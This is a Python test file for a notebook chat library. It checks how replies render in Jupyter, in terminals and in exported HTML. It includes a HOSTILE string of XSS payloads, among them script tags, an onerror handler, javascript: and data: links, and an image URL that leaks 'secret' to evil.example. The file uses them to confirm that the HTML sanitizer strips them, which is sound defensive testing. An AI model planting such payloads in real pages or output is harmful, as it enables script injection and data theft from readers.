"""How replies appear: in a real kernel, in a terminal, as HTML."""

from __future__ import annotations

import asyncio
import os
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from nbclient import NotebookClient
from nbconvert import HTMLExporter

import workbench as wb
from tests.faults.upstream import fault, reply
from workbench.markdown import safe_html
from workbench.show import Cell, Nowhere, Terminal, display_for

if TYPE_CHECKING:
    from nbformat import NotebookNode

    from tests.faults.upstream import ScriptedUpstream

HOSTILE = """<script>alert(1)</script> <img src=x onerror=alert(1)> ![pixel](https://evil.example/?q=secret)
[go](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <form action=https://evil.example><input></form>

<style>body { display: none }</style>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

```html
</code></pre><script>alert(1)</script>
```
"""


# nbclient's own loop would clash with the one of async tests, so these are not async
def executed(*cells: str) -> NotebookNode:
    """A notebook whose cells were run one after another in a kernel of its own, without a page."""
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    NotebookClient(notebook, timeout=120, allow_errors=True).execute(env={**os.environ, "PYTHONPATH": os.getcwd()})
    return notebook


def outputs(*cells: str) -> list[list[dict[str, Any]]]:
    """The outputs of such cells."""
    return [cell.outputs for cell in executed(*cells).cells]


@pytest.fixture
def in_project(scripted: ScriptedUpstream, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest) -> None:
    monkeypatch.chdir(request.config.rootpath)


@pytest.mark.usefixtures("in_project")
class TestInANotebook:
    def test_a_reply_appears_once_as_html_with_its_footer(self, scripted: ScriptedUpstream) -> None:
        scripted.script(reply("**Four** it is"))
        _, asked, again = outputs(
            "import workbench as wb", "chat = wb.Chat(); reply = chat.ask('2+2?'); reply", "reply"
        )

        (shown,) = asked  # the value of the cell is not shown a second time
        assert shown.output_type == "display_data"
        assert shown.data["text/html"].startswith("<p><strong>Four</strong> it is</p>\n<div")
        assert "claude-sonnet-5-5 · " in shown.data["text/plain"]
        assert again[0].output_type == "execute_result"
        assert again[0].data["text/markdown"] == "**Four** it is"

    def test_a_failure_shows_what_came_and_one_sentence(self, scripted: ScriptedUpstream) -> None:
        scripted.script(fault("cut", "one two three", after=2))
        _, (shown, error) = outputs("import workbench as wb; chat = wb.Chat()", "chat.ask('count')")

        assert shown.data["text/html"].startswith("<p>one two</p>")
        assert "failed · " in shown.data["text/plain"]
        assert (error.output_type, error.ename) == ("error", "UpstreamError")

    def test_the_magic_remembers_and_shows_its_usage(self, scripted: ScriptedUpstream) -> None:
        scripted.script(reply("Four"), reply("A sum"))
        _, first, second, table = outputs(
            "%load_ext workbench", "%%chat\nWhat is 2+2?", "%%chat\nWhat was it?", "%chat_usage"
        )

        assert [o.data["text/markdown"].split("\n")[0] for o in (*first, *second)] == ["Four", "A sum"]
        assert [m["role"] for m in scripted.last.body["messages"]] == ["user", "assistant", "user"]
        assert table[0].data["text/plain"].count("claude-sonnet-5-5") == 2

    def test_a_new_chat_of_the_magic_forgets(self, scripted: ScriptedUpstream) -> None:
        outputs("%load_ext workbench", "%%chat\nOne", "%%chat --new --model claude-haiku-5-5\nTwo")

        assert [m["content"][0]["text"] for m in scripted.last.body["messages"]] == ["Two"]
        assert scripted.last.body["model"] == "claude-haiku-5-5"

    def test_the_magic_takes_a_system_prompt_and_sums_up_by_columns(self, scripted: ScriptedUpstream) -> None:
        _, (unasked,), _, by_model = outputs(
            "%load_ext workbench", "%chat_usage", '%%chat --system "Be terse."\nOne', "%chat_usage source, model"
        )

        assert unasked.evalue == "no chat has begun in this notebook; ask something in a cell that starts with %%chat"
        assert "Be terse." in str(scripted.last.body["system"])
        assert "magic  claude-sonnet-5-5" in by_model[0].data["text/plain"]

    def test_the_magic_takes_a_prompt_and_goes_on_with_it(self, scripted: ScriptedUpstream) -> None:
        _, _, _, _, (alone,) = outputs(
            "import workbench as wb; _ = wb.prompts.save('support', 'You help {{customer}}.')\n%load_ext workbench",
            '%%chat --prompt support@production --var "customer=Ada Lovelace"\nOne',
            "%%chat\nTwo",
            "%%chat --prompt support --var customer=Bob\nThree",
            "%%chat --var customer=Eve\nFour",
        )

        assert [request.body["system"] for request in scripted.requests] == [
            "You help Ada Lovelace.",
            "You help Ada Lovelace.",
            "You help Bob.",
        ]
        assert len(scripted.last.body["messages"]) == 1
        assert "name it with --prompt" in alone.evalue

    def test_the_magic_takes_the_quotes_around_an_argument_and_no_others(self, scripted: ScriptedUpstream) -> None:
        outputs(
            "import workbench as wb; _ = wb.prompts.save('say', 'Say {{this}}')\n%load_ext workbench",
            """%%chat --model 'claude-haiku-5-5' --system "Say 'yes' or 'no'"\nOne""",
            """%%chat --prompt "say@latest" --var 'this="yes"'\nTwo""",
        )

        assert [request.body["system"] for request in scripted.requests] == ["Say 'yes' or 'no'", 'Say "yes"']
        assert scripted.requests[0].body["model"] == "claude-haiku-5-5"

    def test_after_a_prompt_that_is_not_there_the_cells_go_on_with_their_chat(self, scripted: ScriptedUpstream) -> None:
        _, _, (unknown,), _ = outputs(
            "%load_ext workbench", "%%chat\nOne", "%%chat --prompt suport\nTwo", "%%chat\nThree"
        )

        assert unknown.ename == "UnknownPrompt"
        assert [m["role"] for m in scripted.last.body["messages"]] == ["user", "assistant", "user"]

    def test_what_is_asked_in_a_later_cell_is_in_the_text_of_the_box(self, scripted: ScriptedUpstream) -> None:
        scripted.script(reply("Four"))
        _, (box,), _ = outputs(
            "import workbench as wb; chat = wb.Chat()", "chat.widget()", "chat.ask('What is 2+2?', show=False);"
        )

        assert set(box.data) == {"text/plain", "text/markdown"}  # beside a widget nbconvert would not show the text
        assert box.data["text/plain"].startswith("You: What is 2+2?\n\nClaude: Four\n\nclaude-sonnet-5-5 · ")
        assert "<p>Four</p>" in box.data["text/markdown"]

    def test_what_is_saved_without_a_page_shows_boxes_and_panels_everywhere(self, scripted: ScriptedUpstream) -> None:
        scripted.script(reply("Four it is"), reply("Four it is"))
        cells = ("import workbench as wb; chat = wb.Chat()", "chat.widget()", "chat.ask('2+2?', show=False);")
        box, panel = executed(*cells), executed(*cells, "wb.UsagePanel()")

        assert "widgets" not in box.metadata  # the JavaScript of the box
        for notebook in (box, panel):
            page, _ = HTMLExporter(embed_images=True).from_notebook_node(notebook)
            assert "Four it is" in page
        assert "<strong>$0.00" in page.replace("&#36;", "$")


def test_a_terminal_shows_the_text_as_it_comes_and_the_footer(
    scripted: ScriptedUpstream, capsys: pytest.CaptureFixture[str]
) -> None:
    scripted.script(reply("Four it is"))
    said = wb.Chat().ask("2+2?", show=True)

    assert capsys.readouterr().out == f"Four it is\n{said.footer}\n"


def test_a_script_whose_output_is_a_file_is_not_spoken_into(
    scripted: ScriptedUpstream, capsys: pytest.CaptureFixture[str]
) -> None:
    wb.Chat().ask("2+2?")
    assert capsys.readouterr().out == ""
    assert isinstance(display_for(None), Nowhere)
    assert isinstance(display_for(True), Terminal)


def test_what_is_sent_to_a_cell_stays_in_proportion_to_the_reply(monkeypatch: pytest.MonkeyPatch) -> None:
    sent: list[int] = []
    clock = iter(range(10_000_000))
    monkeypatch.setattr("workbench.show.time.monotonic", lambda: next(clock))  # every update is due
    monkeypatch.setattr(
        Cell, "_show", lambda self, text, footer="": (sent.append(len(text)), setattr(self, "_shown_at", 0))
    )
    cell = Cell(None)
    for _ in range(20_000):
        cell.add(["word "])

    assert sent[-1] > 95_000
    assert sum(sent) < 40 * 100_000  # with one update per piece it would be 1,000,050,000


def test_a_cell_catches_up_when_nothing_comes(monkeypatch: pytest.MonkeyPatch) -> None:
    now, sent = [10.0], []
    monkeypatch.setattr("workbench.show.time.monotonic", lambda: now[0])
    monkeypatch.setattr(
        Cell, "_show", lambda self, text, footer="": (sent.append(text), setattr(self, "_shown_at", now[0]))
    )
    cell = Cell(None)
    for pieces in ([], ["It is"], [" four"]):
        cell.add(pieces)
    assert sent == ["It is"]

    now[0] += 0.5
    for _ in range(3):
        cell.add([])
    assert sent == ["It is", "It is four"]


@pytest.mark.parametrize("show", ["ask", "aask"])
def test_a_display_is_told_when_nothing_comes(
    scripted: ScriptedUpstream, monkeypatch: pytest.MonkeyPatch, show: str
) -> None:
    told: list[list[str]] = []

    class Watching(Nowhere):
        def add(self, pieces: Any) -> None:
            told.append([*pieces])
            if told[-1] == [] and told[:-1] and any(told[:-1]):
                scripted.release()

    monkeypatch.setattr("workbench.chat.display_for", lambda show: Watching())
    scripted.script(reply(["one ", "two"], pause_after=1))
    chat = wb.Chat()
    answer = chat.ask("hi") if show == "ask" else asyncio.run(chat.aask("hi"))

    assert [pieces for pieces in told if pieces] == [["one "], ["two"]]
    assert str(answer) == "one two"


@pytest.mark.parametrize("tag", ["script", "img", "form", "input", "style", "iframe"])
def test_hostile_replies_bring_no_tag_of_their_own(tag: str) -> None:
    assert f"<{tag}" not in safe_html(HOSTILE)


def test_hostile_links_are_not_links() -> None:
    html = safe_html(HOSTILE)

    assert 'href="javascript' not in html
    assert 'href="data' not in html
    assert html.count("<a ") == 1  # the image, as a link to click
    assert 'rel="noopener noreferrer"' in html


def test_the_footer_is_text() -> None:
    assert "&lt;b&gt;model" in safe_html("hi", "<b>model · $0")
